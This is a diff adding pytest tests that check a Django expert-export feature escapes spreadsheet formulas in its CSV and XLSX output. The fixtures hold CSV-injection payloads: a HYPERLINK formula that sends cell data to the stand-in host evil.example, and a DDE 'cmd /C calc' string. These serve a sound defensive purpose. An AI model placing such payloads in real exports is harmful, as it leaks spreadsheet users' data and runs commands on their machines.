@@ -158,3 +158,51 @@ def test_candidate_columns_are_exported_and_the_export_imports_again_unchanged(c
     again = run(rows, secretariat=secretariat)
     assert again.ok, again.errors
     assert again.summary["expert"]["unchanged"] == 1
+
+
+# --- Formulas are neutralised (issue 9) -------------------------------------------------------------
+EVIL = '=HYPERLINK("http://evil.example/?d="&H2,"CV")'
+
+
+@pytest.fixture
+def evil_expert():
+    person = base.PersonFactory(first_name=EVIL, last_name="@SUM(1+1)", current_post="-2+3", phone="+66 2 123 4567")
+    return ef.ExpertFactory(external_id="EVIL-1", person=person, biography="\tcmd|' /C calc'!A0")
+
+
+def test_the_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(client_as, secretariat, evil_expert):
+    rows = csv_rows(client_as(secretariat).get(reverse("experts:export-csv")))
+    row = next(r for r in rows if r["external_id"] == "EVIL-1")
+
+    assert row["first_name"] == "'" + EVIL
+    assert row["last_name"] == "'@SUM(1+1)"
+    assert row["biography"].startswith("'\t")
+    assert row["phone"] == "+66 2 123 4567"  # a phone number cannot call anything: kept for the re-import
+    assert row["current_post"] == "-2+3"
+
+
+def test_the_xlsx_export_writes_text_never_a_formula(client_as, secretariat, evil_expert):
+    response = client_as(secretariat).get(reverse("experts:export-xlsx"))
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("external_id")].value == "EVIL-1")
+    first_name = row[header.index("first_name")]
+
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
+    assert first_name.data_type == "s"
+    assert first_name.value == EVIL  # unchanged, so it imports again as it was
+    assert first_name.quotePrefix
+    assert row[header.index("phone")].value == "+66 2 123 4567"
+
+
+def test_safe_cell_escapes_every_formula_trigger():
+    from wcocb.exporting import safe_cell
+
+    for trigger in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(f"{trigger}cmd") == f"'{trigger}cmd"
+    assert safe_cell("Garcia") == "Garcia"
+    assert safe_cell("") == ""
+    assert safe_cell("+66 2 123 4567") == "+66 2 123 4567"
+    assert safe_cell("-5") == "-5"
+    assert safe_cell("+1+A1") == "'+1+A1"
+    assert safe_cell(3) == 3
